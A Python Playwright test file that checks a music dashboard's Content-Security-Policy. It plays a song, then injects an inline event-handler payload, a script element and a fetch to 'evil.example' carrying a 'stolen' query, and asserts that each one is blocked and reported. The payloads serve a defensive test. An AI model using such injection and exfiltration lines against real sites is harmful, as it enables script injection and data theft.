"""The Content-Security-Policy in a browser: it stops an attacker's additions, and nothing of Segue's own.

That no page breaks it: tests/dashboard/test_accessible_browser.py, which looks at all of them.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from tests.dashboard.browser import WATCH_POLICY, Player, Served, against_policy, needs_chromium, settle
from tests.waiting import until

pytestmark = needs_chromium


def test_songs_play_and_what_an_attacker_adds_does_not_run(visited: Served, page: Page) -> None:
    page.add_init_script(WATCH_POLICY)
    page.goto(visited.address)
    settle(page)
    player = Player(page)
    player.play(player.cards()[0])
    player.wait_playing()
    assert against_policy(page) == []
    page.evaluate("""() => {
      document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.ran = 1'>");
      const script = document.createElement("script");
      script.textContent = "window.ran = 2";
      document.body.append(script);
    }""")
    with pytest.raises(Exception, match="Failed to fetch"):
        page.evaluate("fetch('https://evil.example/?stolen')")
    until(lambda: len(against_policy(page)) >= 3, "three violations to be reported")
    kinds = {text.partition(" ")[0] for text in against_policy(page)}
    assert kinds == {"script-src-attr", "script-src-elem", "connect-src"}
    assert page.evaluate("window.ran ?? null") is None
